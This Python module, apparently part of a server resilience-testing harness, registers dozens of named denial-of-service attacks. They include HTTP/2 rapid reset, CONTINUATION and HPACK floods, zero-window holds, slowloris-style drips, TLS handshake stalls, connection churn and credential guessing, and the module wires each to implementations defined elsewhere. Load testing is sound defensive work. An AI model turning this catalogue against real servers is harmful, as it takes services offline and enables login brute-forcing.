"""The attacks by name."""

import dataclasses

from harness import frames
from hostile import connections, http1, http2_floods as floods, http2_held as held
from hostile.engine import Plan
from hostile.target import RAW_TLS, TLS

DEAF_BUFFER = 4096
DRIPPERS = 20
MANY = 2000
IDLE = 1000

FLOODS, HELD, SLOW, CONNECTIONS, GUESSES = "flood", "held", "slow", "connections", "guesses"


@dataclasses.dataclass(frozen=True)
class Attack:
    kind: str
    plan: Plan
    # Whether the attacker has good credentials.
    is_known: bool = False


def unfinished(flags, size):
    """CONTINUATION frames for ever behind a HEADERS frame; with END_HEADERS never set."""
    data = frames.frame(frames.CONTINUATION, flags, 3) if size == 0 else floods.continuation(size)
    return floods.repeated_frames(data, floods.unfinished_headers)


def empty_data(target):
    return floods.headers_frame(floods.post_heads(target).later, stream=3)


ATTACKS = {
    # Streams that end before they are worth anything.
    "rapid-reset": Attack(FLOODS, Plan(floods.flood(floods.rapid_reset))),
    "rapid-reset-get": Attack(FLOODS, Plan(floods.flood(floods.rapid_reset, "GET"))),
    "rapid-reset-misses": Attack(FLOODS, Plan(floods.flood(floods.rapid_reset_body)), is_known=True),
    "rapid-reset-bodies": Attack(FLOODS, Plan(floods.flood(floods.refused_bodies))),
    "headers-reset": Attack(FLOODS, Plan(floods.flood(floods.headers_reset))),
    "reset-inside-headers": Attack(FLOODS, Plan(floods.reset_inside_headers)),
    "window-zero": Attack(FLOODS, Plan(floods.flood(floods.window_zero)), is_known=True),
    "window-overflow": Attack(FLOODS, Plan(floods.flood(floods.window_overflow)), is_known=True),
    "data-on-closed": Attack(FLOODS, Plan(floods.flood(floods.data_on_closed)), is_known=True),
    "self-priority": Attack(FLOODS, Plan(floods.flood(floods.self_priority)), is_known=True),
    # Frames that ask for nothing.
    "ping-flood": Attack(FLOODS, Plan(floods.repeated_frames(frames.ping()))),
    "settings-flood": Attack(FLOODS, Plan(floods.repeated_frames(frames.settings()))),
    "settings-windows": Attack(FLOODS, Plan(floods.settings_windows)),
    "unknown-frames": Attack(FLOODS, Plan(floods.repeated_frames(frames.frame(0xFE)))),
    "unknown-low-frames": Attack(FLOODS, Plan(floods.repeated_frames(floods.low_unknown_frames()))),
    "empty-continuation": Attack(FLOODS, Plan(unfinished(0, 0))),
    "endless-continuation": Attack(FLOODS, Plan(unfinished(0, frames.MAX_FRAME_SIZE))),
    "empty-data": Attack(FLOODS, Plan(floods.repeated_frames(frames.frame(frames.DATA, 0, 3), empty_data))),
    "priority-flood": Attack(FLOODS, Plan(floods.repeated_frames(frames.priority(1, 3)))),
    "reprioritized": Attack(FLOODS, Plan(floods.reprioritized)),
    "window-updates": Attack(FLOODS, Plan(floods.repeated_frames(frames.window_update(1, 3), empty_data))),
    # Headers.
    "hpack-expansion": Attack(FLOODS, Plan(floods.hpack_expansion)),
    "large-headers": Attack(FLOODS, Plan(floods.large_headers)),
    "many-headers": Attack(FLOODS, Plan(floods.flood(floods.many_headers))),
    "trailers": Attack(FLOODS, Plan(floods.flood(floods.trailers))),
    "h1-large-header": Attack(FLOODS, Plan(http1.large_header)),
    "h1-many-headers": Attack(FLOODS, Plan(http1.many_headers)),
    "h1-chunks": Attack(FLOODS, Plan(http1.empty_chunk_flood)),
    # Streams that stay.
    "bodies-without-end": Attack(HELD, Plan(held.bodies_without_end)),
    "large-bodies": Attack(HELD, Plan(held.large_bodies)),
    "misses-in-flight": Attack(HELD, Plan(held.misses_in_flight, keeps_answers=True), is_known=True),
    "h1-misses": Attack(HELD, Plan(http1.misses), is_known=True),
    # Answers that nobody takes.
    "ping-deaf": Attack(HELD, Plan(floods.repeated_frames(frames.ping()), is_deaf=True, receive_buffer=DEAF_BUFFER)),
    "zero-window": Attack(HELD, Plan(held.zero_window)),
    "zero-window-pings": Attack(HELD, Plan(held.zero_window_pings)),
    "window-drip": Attack(HELD, Plan(held.window_drip)),
    "h1-deaf": Attack(HELD, Plan(http1.pipeline, is_deaf=True, receive_buffer=DEAF_BUFFER)),
    # Drips.
    "h1-header-drip": Attack(SLOW, Plan(http1.header_drip, DRIPPERS)),
    "h1-body-drip": Attack(SLOW, Plan(http1.body_drip, DRIPPERS)),
    "h1-chunk-drip": Attack(SLOW, Plan(http1.chunked_drip, DRIPPERS)),
    "h2-preface-drip": Attack(SLOW, Plan(held.preface_drip, DRIPPERS)),
    "h2-headers-drip": Attack(SLOW, Plan(held.headers_drip, DRIPPERS)),
    "h2-body-drip": Attack(SLOW, Plan(held.body_drip, DRIPPERS)),
    "h2-ping-drip": Attack(SLOW, Plan(held.ping_drip, DRIPPERS)),
    "h2-continuation-drip": Attack(SLOW, Plan(held.continuation_drip, DRIPPERS)),
    "tls-handshake-drip": Attack(SLOW, Plan(connections.handshake_drip, DRIPPERS, transport=RAW_TLS)),
    "tls-handshake-stays": Attack(SLOW, Plan(connections.hello_and_stays, DRIPPERS, transport=RAW_TLS)),
    # Connections.
    "idle": Attack(CONNECTIONS, Plan(connections.silent, IDLE)),
    "many-connections": Attack(CONNECTIONS, Plan(connections.silent, MANY)),
    "half-closed": Attack(CONNECTIONS, Plan(connections.half_closed, DRIPPERS)),
    "churn": Attack(CONNECTIONS, Plan(connections.leaves_at_once)),
    "ask-and-leave": Attack(CONNECTIONS, Plan(connections.asks_and_leaves)),
    "tls-handshakes": Attack(CONNECTIONS, Plan(connections.hello_and_leaves, transport=RAW_TLS)),
    # Guesses.
    "h1-guesses": Attack(GUESSES, Plan(http1.basic_guesses)),
    "h1-form-guesses": Attack(GUESSES, Plan(http1.form_guesses)),
    "h2-guesses": Attack(GUESSES, Plan(floods.basic_guesses)),
    "h2-form-guesses": Attack(GUESSES, Plan(floods.flood(floods.guesses))),
}

OVER_TLS = ("rapid-reset", "rapid-reset-misses", "window-zero", "ping-flood", "ping-deaf", "zero-window", "misses-in-flight")
OVER_TLS_HTTP1 = ("h1-header-drip", "h1-deaf")


def over_tls(name, alpn):
    attack = ATTACKS[name]
    return dataclasses.replace(attack, plan=dataclasses.replace(attack.plan, transport=TLS, alpn=alpn))


ATTACKS |= {f"tls-{name}": over_tls(name, "h2") for name in OVER_TLS}
ATTACKS |= {f"tls-{name}": over_tls(name, "http/1.1") for name in OVER_TLS_HTTP1}
